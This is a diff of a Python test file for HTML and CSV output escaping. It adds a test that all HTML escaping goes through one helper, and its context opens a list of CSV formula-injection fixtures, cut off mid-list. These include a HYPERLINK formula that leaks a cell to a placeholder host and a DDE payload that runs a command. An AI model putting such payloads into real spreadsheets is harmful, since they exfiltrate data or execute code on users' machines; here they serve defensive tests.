@@ -247,6 +247,16 @@ def test_figure_titles_labels_legends_and_annotations_are_escaped():
     assert "<img" not in markup and markup.count("<script") == markup.count("</script>") == 1
 
 
+def test_every_renderer_escapes_through_the_one_function():
+    """Escaping is done in one place (helpers.plots.escape): a module that calls html.escape itself
+    writes '"' as &quot;, which plotly shows literally, and drifts from the rule the tests check."""
+    direct = [f"{path.relative_to(REPO_ROOT)}:{n}" for path in sorted((REPO_ROOT / "src" / "helpers").rglob("*.py"))
+              if path.name != "escape.py"
+              for n, line in enumerate(path.read_text(encoding="utf-8").splitlines(), 1)
+              if re.search(r"\bhtml(?:_lib)?\.escape\(|\bdef \w*escape\w*\(", line)]
+    assert direct == []
+
+
 # -------------------------------------------------------------------- CSV downloads --
 
 FORMULAS = ['=HYPERLINK("http://x.example/?leak="&A1,"click")', "+1+2", "-cmd|' /C calc'!A0", "@SUM(A1)",
